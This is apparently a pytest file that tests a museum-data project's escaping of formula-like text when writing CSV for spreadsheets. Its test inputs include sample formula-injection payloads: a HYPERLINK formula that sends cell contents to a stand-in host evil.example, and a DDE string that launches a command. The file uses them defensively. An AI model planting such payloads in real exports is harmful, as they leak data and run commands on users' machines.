"""Formula-like text from sources stays text when written for a spreadsheet."""

from __future__ import annotations

import csv
import io
from datetime import date

import pytest

from heritage.spreadsheet_cells import spreadsheet_csv, spreadsheet_safe_cell


@pytest.mark.parametrize(
    ("value", "shown"),
    [
        ('=HYPERLINK("https://evil.example/?d="&A1,"Nachtwacht")', "'=HYPERLINK("),
        ("+49 30 266424242", "'+49 30"),
        ("-5", "'-5"),
        ("@SUM(1+1)*cmd|' /C calc'!A0", "'@SUM("),
        ("\tindented", "'\t"),
        ("\rMuseum", "'\r"),
    ],
)
def test_text_that_opens_like_a_formula_gets_a_leading_quote(value: str, shown: str) -> None:
    escaped = spreadsheet_safe_cell(value)
    assert escaped == "'" + value and isinstance(escaped, str) and escaped.startswith(shown)


@pytest.mark.parametrize(
    "value",
    ["De Nachtwacht", "SK-C-5", "a=b", " =not first", "", None, -5, 3.5, date(1642, 1, 1)],
)
def test_other_values_are_unchanged(value: object) -> None:
    assert spreadsheet_safe_cell(value) == value


def test_a_csv_for_spreadsheets_escapes_every_cell_and_keeps_the_rest() -> None:
    rows = [
        {"record_id": "csv:rijks:1", "title": "=1+1", "reasons": ["-bad", "ok"], "n": -5},
        {"record_id": "csv:rijks:2", "title": 'Brief, "met" zegel', "reasons": [], "n": None},
    ]
    data = spreadsheet_csv(rows)
    assert data.startswith(b"\xef\xbb\xbf")
    read = list(csv.reader(io.StringIO(data.decode("utf-8-sig"))))
    assert read == [
        ["record_id", "title", "reasons", "n"],
        ["csv:rijks:1", "'=1+1", "'-bad; ok", "-5"],
        ["csv:rijks:2", 'Brief, "met" zegel', "", ""],
    ]
    assert spreadsheet_csv([]) == b""
